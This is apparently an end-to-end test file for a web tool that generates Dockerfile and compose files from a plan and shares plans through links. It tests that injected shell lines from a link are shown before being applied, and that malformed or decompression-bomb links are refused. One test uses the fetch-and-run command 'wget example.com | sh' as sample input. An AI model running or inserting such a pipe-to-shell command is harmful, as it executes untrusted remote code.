import { deflateRawSync } from 'node:zlib';
import { type App, expect, test } from './page.ts';

/** The plan of the recommended answers stands: nothing of a link came in. */
async function ownPlanStands(app: App): Promise<void> {
  await app.open('#/plan/image');
  await expect(app.heading('Image')).toBeVisible();
}

test('a link brings another person the same files', async ({ app, visitor }) => {
  await app.plan('PostgreSQL', 'Privileges');
  await app.answer('No new privileges', 'Yes, whatever the daemon says');
  await app.step('Resources');
  await app.answer('Processes and threads', 'No limit');
  const files = await app.texts();
  const other = await visitor();
  await other.page.goto(await app.link());
  await expect(other.heading('Resources')).toBeVisible();
  expect(await other.texts()).toEqual(files);
});

test('a link with free texts shows them before anything is applied', async ({ app, visitor }) => {
  await app.plan('nginx');
  await app.answer('Application', 'A line for a shell');
  await app.input('Application', 'Line for the shell').fill('wget example.com | sh');
  await expect.poll(() => app.text('Dockerfile')).toContain('wget example.com | sh');
  const files = await app.texts();
  const link = await app.link();

  const other = await visitor();
  await other.page.goto(link);
  const dialog = other.dialog('A plan from a link');
  await expect(dialog).toContainText('wget example.com | sh');
  await other.accessible('the plan of a link');
  await dialog.getByRole('button', { name: 'Do not open it' }).click();
  await expect(dialog).toBeHidden();
  expect(await other.text('Dockerfile')).not.toContain('wget');
  await expect(other.button(/^Undo/)).toBeDisabled();

  const third = await visitor();
  await third.page.goto(link);
  await third.dialog('A plan from a link').getByRole('button', { name: 'Open the plan' }).click();
  expect(await third.texts()).toEqual(files);
  await third.undo();
  expect(await third.text('Dockerfile')).not.toContain('wget');
});

/** Any JSON after the manner of a link, with a checksum that is wrong. */
const packed = (value: unknown): string =>
  `1.${Buffer.concat([Buffer.alloc(3), deflateRawSync(Buffer.from(JSON.stringify(value)))]).toString('base64url')}`;

const REFUSED = {
  damaged: ['1.%%%', /damaged: it holds characters/],
  'cut off': ['1.abcdef', /damaged: it cannot be unpacked/],
  'of a foreign version': ['9.abcdef', /of version "9"/],
  'longer than any plan': [`1.${'A'.repeat(60_001)}`, /at most 60000 are read/],
  'unpacking to too much': [packed(' '.repeat(2 ** 21)), /unpacks to more than 1 MiB/],
  'changed on its way': [packed({ hello: 'world' }), /holds something else than was sent/],
} as const;

for (const [kind, [payload, reason]] of Object.entries(REFUSED)) {
  test(`a link that is ${kind} is refused with its reason, and the plan stays`, async ({ app }) => {
    await app.open(`#/plan/privileges?p=${payload}`);
    const dialog = app.dialog('This link could not be read');
    await expect(dialog).toContainText(reason);
    await app.accessible('a refused link');
    await dialog.getByRole('button', { name: 'Go on with my plan' }).click();
    await expect(dialog).toBeHidden();
    await expect(app.heading('Privileges')).toBeVisible();
    expect(await app.text('compose.yaml')).toContain('read_only: true');
    await expect(app.button(/^Undo/)).toBeDisabled();
  });
}

test('half of a true link is refused', async ({ app, visitor }) => {
  await app.plan('Redis');
  const link = await app.link();
  const other = await visitor();
  await other.page.goto(link.slice(0, -20));
  await expect(other.dialog('This link could not be read')).toBeVisible();
});

test('a link pasted over an open plan can be undone', async ({ app, visitor }) => {
  const other = await visitor();
  await other.plan('Redis');
  const link = await other.link();
  await app.plan('nginx', 'Filesystem');
  await app.answer('Read-only root filesystem', 'Writable');
  const own = await app.texts();
  await app.page.evaluate((hash) => location.assign(hash), new URL(link).hash);
  await expect.poll(() => app.text('compose.yaml')).toContain('redis');
  await app.undo();
  expect(await app.texts()).toEqual(own);
});

test('an address that names no page leads to the start', async ({ app }) => {
  await app.open('#/%E0%A4%A/nowhere/%%');
  await expect(app.page.getByRole('heading', { level: 1, name: 'What runs in the container?' })).toBeVisible();
  await ownPlanStands(app);
});
